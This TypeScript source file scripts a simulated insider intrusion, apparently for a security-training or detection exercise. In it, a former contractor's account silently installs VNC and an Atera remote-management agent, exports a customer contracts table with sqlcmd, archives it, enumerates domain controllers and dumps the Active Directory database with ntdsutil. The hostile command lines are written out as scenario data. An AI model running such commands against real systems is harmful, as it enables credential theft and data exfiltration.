/** Intrusion 3, “the sleeper”. Who, what and when: see ../README.md. */
import type { Ticks } from '@/lib/shared/time';
import { account } from '../company/people';
import * as desk from '../programs/desk';
import * as rmm from '../programs/rmm';
import * as windows from '../programs/windows';
import type { Process } from '../story/process';
import type { Story } from '../story/story';

const cloud = { host: 'services.vnc.com', ip: '203.0.113.201' };
const leaver = account('ext-marek');

export function sleeper(story: Story): void {
  const server = story.on('srv-sql-002');
  const admin = server.signIn(leaver, story.at(26, '16:40'));
  const installer = admin.start(windows.msiexec, {
    after: '4m',
    elevated: true,
    command: '"{path}" /i C:\\Users\\ext-marek\\Downloads\\VNC-Server-7.11.0-Windows-en-64bit.msi /qn',
  });
  installer.start(rmm.vncServer, { after: '30s', command: '"{path}" -register -noconsole', elevated: true });
  server
    .services(story.at(26, '16:46'))
    .start(rmm.vncServer, { command: '"{path}" -service' })
    .connect({ host: 'update-check.realvnc.com', ip: '203.0.113.202' });

  // Nothing for more than three weeks. Then three nights.
  const first = visit(story, story.at(3, '01:32'));
  first.start(desk.sqlcmd, { after: '6m', command: '"{path}" -E -Q "SELECT name, create_date FROM sys.databases"' });
  const second = visit(story, story.at(2, '01:05'));
  second.start(desk.sqlcmd, {
    after: '3m',
    command: '"{path}" -E -d Customers -Q "SELECT * FROM dbo.Contracts" -o C:\\PerfLogs\\c.csv -s ;',
  });
  second.start(desk.sevenZip, { after: '19m', command: '"{path}" a -v200m C:\\PerfLogs\\c.7z C:\\PerfLogs\\c.csv' });
  const third = visit(story, story.at(1, '02:20'));
  third.start(windows.net, { after: '4m', command: 'net  group "Domain Controllers" /domain' });

  // This shift: a second way in, on a domain controller.
  const controller = story.on('srv-dc-001');
  controller.rdpFrom = server.device;
  const shell = controller.signIn(leaver, story.ago('5h')).start(windows.powershell, { after: '2m', elevated: true });
  controller.rdpFrom = undefined;
  shell.start(windows.msiexec, {
    after: '1m',
    elevated: true,
    command: '"{path}" /i C:\\PerfLogs\\agent.msi /qn IntegratorLogin=ops@brightdesk.example AccountId=0013z00002Yq',
  });
  const agent = controller.services(story.ago('5h') + 2_400_000_000n).start(rmm.ateraAgent, { command: '"{path}"' });
  agent
    .connect({ host: 'agentreporting.atera.com', ip: '203.0.113.220' })
    .connect({ host: 'pubsub.atera.com', ip: '203.0.113.221', after: '40s' });
  agent.connect({ host: 'agenthb.atera.com', ip: '203.0.113.222', after: '2h' });
  const runner = agent.start(rmm.ateraPackage, {
    after: '31m',
    command: '"{path}" 7d8e4a1c agent-api.atera.com/Production 443 or8ixLi90Mf',
  });
  runner.start(windows.cmd, {
    after: '3s',
    command: '"cmd.exe" /c ntdsutil "ac i ntds" "ifm" "create full c:\\perflogs\\n" q q',
  });
}

/** Somebody comes in over VNC; gives the shell they open. */
function visit(story: Story, at: Ticks): Process {
  const server = story.on('srv-sql-002');
  const service = server.services(at).start(rmm.vncServer, { command: '"{path}" -service' });
  service.connect(cloud).connect({ ...cloud, after: '25m' });
  const agent = service.start(rmm.vncAgent, { after: '20s', command: '"{path}" service 5900' });
  return agent.start(windows.cmd, { after: '2m', command: '"{path}"', as: leaver });
}
